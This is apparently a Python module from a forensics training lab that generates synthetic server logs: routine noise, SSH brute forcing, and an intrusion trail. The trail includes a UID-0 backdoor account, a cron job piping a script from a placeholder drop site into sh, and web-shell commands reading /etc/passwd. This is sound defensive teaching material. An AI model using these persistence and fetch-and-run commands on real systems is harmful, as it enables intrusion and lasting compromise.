# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The server's logs over its last days: everyday noise, and the lines that the incident left among it."""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import datetime, timezone
from urllib.parse import quote

from lab.evidence import logins, story
from lab.evidence.tree import SECOND, at, jitter

MINUTE, DAY = 60 * SECOND, 86_400 * SECOND
GUESSED_NAMES = ("root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "deploy", "mysql", "www", "user", "pi")
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:129.0) Gecko/20100101 Firefox/129.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
)
PAGES = ("/", "/index.php", "/product.php?id={n}", "/product.php?id={n}", "/category.php?c={n}", "/cart.php",
         "/assets/css/site.css", "/assets/js/shop.js", "/assets/img/p{n}.jpg", "/assets/img/p{n}.jpg",
         "/search.php?q={n}")


@dataclass
class Log:
    """Lines with their moments, put into order when they are written out."""

    lines: list[tuple[int, str]] = field(default_factory=list)

    def add(self, moment: int, text: str) -> None:
        """One line, later given its time stamp."""
        self.lines.append((moment, text))

    def syslog(self) -> str:
        """As Debian 12's rsyslog writes it."""
        return "".join(f"{_stamp(moment)} {story.HOST} {text}\n" for moment, text in sorted(self.lines))

    def plain(self) -> str:
        """As it is: the lines bring their own time stamps."""
        return "".join(text + "\n" for _, text in sorted(self.lines))


@dataclass
class Logs:
    """All logs, and the binary login records that belong to the same events."""

    auth: Log = field(default_factory=Log)
    syslog: Log = field(default_factory=Log)
    access: Log = field(default_factory=Log)
    logins: list[tuple[int, bytes]] = field(default_factory=list)
    failures: list[tuple[int, bytes]] = field(default_factory=list)

    def wtmp(self) -> bytes:
        """Logins, logouts and boots."""
        return b"".join(entry for _, entry in sorted(self.logins))

    def btmp(self) -> bytes:
        """Failed logins."""
        return b"".join(entry for _, entry in sorted(self.failures))

    def failed(self, moment: int, host: str, user: str, pid: int, port: int, *, known: bool) -> None:
        """A wrong password."""
        if not known:
            self.auth.add(moment, f"sshd[{pid}]: Invalid user {user} from {host} port {port}")
        invalid = "" if known else "invalid user "
        self.auth.add(moment + SECOND, f"sshd[{pid}]: Failed password for {invalid}{user} from {host} port {port} ssh2")
        self.auth.add(moment + SECOND + 8000, f"sshd[{pid}]: Connection closed by "
                      f"{'authenticating' if known else 'invalid'} user {user} {host} port {port} [preauth]")
        self.failures.append((moment + SECOND, logins.record(logins.LOGIN_PROCESS, moment + SECOND, pid=pid,
                                                            line="ssh:notty", user=user, host=host)))

    def session(self, user: str, uid: int, host: str, start: int, end: int, *, how: str, pid: int, line: str) -> None:
        """A login by SSH, from its first to its last line."""
        self.auth.add(start, f"sshd[{pid}]: Accepted {how} for {user} from {host} port {41000 + pid % 20000} ssh2")
        self.auth.add(start + 9000, f"sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid={uid}) "
                                    "by (uid=0)")
        self.auth.add(start + 12000, f"systemd-logind[388]: New session {pid % 900} of user {user}.")
        self.auth.add(end, f"sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}")
        self.logins += logins.session(user, host, start, end, pid=pid, line=line)

    def sudo(self, moment: int, user: str, folder: str, command: str, line: str = "pts/0") -> None:
        """A command with sudo."""
        self.auth.add(moment, f"sudo:   {user} : TTY={line} ; PWD={folder} ; USER=root ; COMMAND={command}")

    def request(self, moment: int, client: str, request: str, status: int, size: int, agent: str,
                referer: str = "-") -> None:
        """A line of nginx's access log."""
        when = datetime.fromtimestamp(moment // SECOND, timezone.utc).strftime("%d/%b/%Y:%H:%M:%S +0000")
        self.access.add(moment, f'{client} - - [{when}] "{request} HTTP/1.1" {status} {size} "{referer}" "{agent}"')


def _stamp(moment: int) -> str:
    seconds, rest = divmod(moment, SECOND)
    when = datetime.fromtimestamp(seconds, timezone.utc).strftime("%Y-%m-%dT%H:%M:%S")
    return f"{when}.{rest // 1000:06d}+00:00"


def _every(step: int, name: str) -> Iterator[int]:
    """Moments between the last rotation and the snapshot, `step` apart, each a little off."""
    moment = story.LOGS_FROM
    while moment < story.SNAPSHOT:
        yield moment + jitter(f"{name}{moment}", SECOND)
        moment += step


def make() -> Logs:
    """All of it."""
    logs = Logs()
    chance = random.Random("logs")  # noqa: S311 - the same noise every time
    _everyday(logs, chance)
    _visitors(logs, chance)
    _guessing(logs, chance)
    _intrusion(logs)
    _web_shell(logs)
    return logs


def _everyday(logs: Logs, chance: random.Random) -> None:
    for number, moment in enumerate(_every(10 * MINUTE, "cron")):
        pid = 20000 + number * 7
        logs.syslog.add(moment, f"CRON[{pid}]: (deploy) CMD (php /srv/www/shop/bin/cron.php >/dev/null 2>&1)")
        logs.auth.add(moment, f"CRON[{pid}]: pam_unix(cron:session): session opened for user deploy(uid=1001) by "
                              "(uid=0)")
        logs.auth.add(moment + SECOND // 3, f"CRON[{pid}]: pam_unix(cron:session): session closed for user deploy")
    for number, moment in enumerate(_every(60 * MINUTE, "hourly")):
        logs.syslog.add(moment + 17 * MINUTE, f"CRON[{9000 + number * 31}]: (root) CMD (cd / && run-parts --report "
                                              "/etc/cron.hourly)")
        logs.syslog.add(moment + 21 * MINUTE, "systemd[1]: Started phpsessionclean.service - Clean php session files.")
        logs.syslog.add(moment + 40 * MINUTE, f"php-fpm8.2[612]: [pool www] child {3000 + number} exited with code 0")
    for number, moment in enumerate(_every(DAY, "daily")):
        logs.syslog.add(moment + 135 * MINUTE, f"CRON[{8000 + number}]: (root) CMD (/usr/local/sbin/shop-backup)")
        logs.syslog.add(moment + 137 * MINUTE, "shop-backup: dump of shop_db written, 18 tables")
        logs.syslog.add(moment + 380 * MINUTE, "systemd[1]: apt-daily-upgrade.service: Deactivated successfully.")
        for attempt in range(40):  # the noise that every address on the Internet hears
            host = f"198.18.{chance.randrange(256)}.{chance.randrange(1, 255)}"
            when = moment + chance.randrange(DAY)
            if when < story.SNAPSHOT:
                user = chance.choice(GUESSED_NAMES)
                logs.failed(when, host, user, 30000 + number * 97 + attempt, chance.randrange(1024, 65000),
                            known=user in ("root", "deploy", "admin"))
    logs.logins += logins.boot(story.BOOTED)
    for number, day in enumerate(("2026-09-07", "2026-09-09", "2026-09-11")):
        start = at(f"{day} 07:5{number}:12")
        logs.session("admin", 1000, story.OFFICE, start, start + 25 * MINUTE, how="publickey", pid=15100 + number,
                     line="pts/0")
        logs.sudo(start + 3 * MINUTE, "admin", "/home/admin", "/usr/bin/systemctl reload nginx")
    start = at("2026-09-08 13:20:40")
    logs.session("deploy", 1001, story.CI_RUNNER, start, start + MINUTE, how="publickey", pid=15222, line="pts/0")


def _visitors(logs: Logs, chance: random.Random) -> None:
    for moment in _every(2 * MINUTE, "visit"):
        client = f"198.19.{chance.randrange(256)}.{chance.randrange(1, 255)}"
        agent = chance.choice(BROWSERS)
        for step in range(chance.randrange(1, 3)):
            page = chance.choice(PAGES).format(n=chance.randrange(1, 60))
            logs.request(moment + step * 3 * SECOND, client, f"GET {page}", 200, chance.randrange(800, 48000), agent,
                         "https://shop.example/")
    for moment in _every(97 * MINUTE, "bots"):
        client = f"198.18.{chance.randrange(256)}.{chance.randrange(1, 255)}"
        for path in ("/.env", "/wp-login.php", "/phpmyadmin/index.php"):
            logs.request(moment, client, f"GET {path}", 404, 162, "Mozilla/5.0 zgrab/0.x")


def _guessing(logs: Logs, chance: random.Random) -> None:
    moment, pid = story.SCAN_FROM, 40000
    while moment < story.BREAK_IN - 8 * SECOND:
        user = chance.choice(GUESSED_NAMES)
        logs.failed(moment, story.ATTACKER, user, pid, chance.randrange(32000, 60000),
                    known=user in ("root", "deploy", "admin"))
        moment += chance.randrange(3, 8) * SECOND + chance.randrange(SECOND)
        pid += chance.randrange(1, 4)


def _intrusion(logs: Logs) -> None:
    logs.session("deploy", 1001, story.ATTACKER, story.BREAK_IN, story.LEFT, how="password", pid=45512, line="pts/1")
    logs.sudo(story.ROOT_SHELL, "deploy", "/home/deploy", "/bin/bash", "pts/1")
    logs.auth.add(story.ROOT_SHELL + 9000, "sudo: pam_unix(sudo-i:session): session opened for user root(uid=0) by "
                                           "deploy(uid=1001)")
    account = story.PERSISTED - 140 * SECOND
    logs.auth.add(account, "useradd[45730]: new user: name=sysbackup, UID=0, GID=0, home=/var/lib/sysbackup, "
                           "shell=/bin/bash, from=/dev/pts/1")
    logs.auth.add(account + 6 * SECOND, "passwd[45733]: pam_unix(passwd:chauthtok): password changed for sysbackup")
    logs.syslog.add(story.PERSISTED, "systemd[1]: Reloading.")
    logs.syslog.add(story.PERSISTED + SECOND,
                    "systemd[1]: Started systemd-journal-gc.service - Journal Garbage Collector.")
    moment = story.PERSISTED - story.PERSISTED % (10 * MINUTE) + 10 * MINUTE
    number = 0
    while moment < story.SNAPSHOT:
        logs.syslog.add(moment + SECOND, f"CRON[{50000 + number * 3}]: (root) CMD (curl -fsSL "
                                         f"http://{story.DROP_SITE}/d/inst.sh | sh >/dev/null 2>&1)")
        moment, number = moment + 10 * MINUTE, number + 1
    again = at("2026-09-13 22:04:51")
    logs.session("sysbackup", 0, story.ATTACKER, again, again + 18 * MINUTE, how="password", pid=52871, line="pts/0")


def _web_shell(logs: Logs) -> None:
    path = story.WEB_SHELL.removeprefix("/www/shop/public")
    agent = "python-requests/2.31.0"
    start = story.SHELL_UPLOAD - 70 * SECOND
    logs.request(start, story.ATTACKER_WEB, "GET /admin/login.php", 200, 3120, agent)
    logs.request(start + 20 * SECOND, story.ATTACKER_WEB, "POST /admin/media.php?action=upload", 302, 0, agent)
    for number, command in enumerate(("id", "uname -a", "cat /etc/passwd", "ls -la /srv/backup")):
        logs.request(story.SHELL_UPLOAD + (30 + 41 * number) * SECOND, story.ATTACKER_WEB,
                     f"GET {path}?cmd={quote(command, safe='/')}", 200, 240 + number * 611, agent)
    for number in range(9):
        logs.request(story.SHELL_UPLOAD + (400 + 230 * number) * SECOND, story.ATTACKER_WEB, f"POST {path}", 200,
                     512 + number * 97, agent)
